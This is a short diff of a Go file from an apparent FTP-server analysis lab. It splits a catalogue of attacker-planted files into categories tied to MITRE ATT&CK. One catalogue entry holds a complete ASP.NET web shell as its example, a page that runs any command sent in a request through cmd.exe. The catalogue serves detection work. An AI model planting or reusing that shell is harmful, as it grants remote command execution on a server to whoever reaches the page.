@@ -12,7 +12,7 @@ import (
 	"ftplab/lab/analysis/ftp"
 )
 
-// A plant is a file that intruders store, so that somebody runs it later. All of its parts are in the
+// A plant is a file that intruders store, such as one that somebody runs later. All of its parts are in the
 // file. Patterns are looked for where the first part was found, and after it.
 type plant struct {
 	what string
@@ -80,7 +80,11 @@ const (
 	atProxies   = "MITRE ATT&CK, T1218 (system binary proxy execution)"
 )
 
-var plants = []plant{
+// plants are all that is known.
+var plants = slices.Concat(serverPlants, pagePlants, stolenTexts, implants)
+
+// serverPlants are pages that run what they are sent, jobs, services, scripts that fetch programs, and miners.
+var serverPlants = []plant{
 	{what: "a page that hands a shell what it is sent", kind: loot, source: atWebShells,
 		example: `<%@ Page Language="C#"%><script runat="server">void Page_Load(object s,EventArgs e){var p=new Process();p.StartInfo.FileName="cmd.exe";p.StartInfo.Arguments="/c "+Request["c"];p.Start();}</script>`,
 		parts: []part{serverPage, aVisitor,
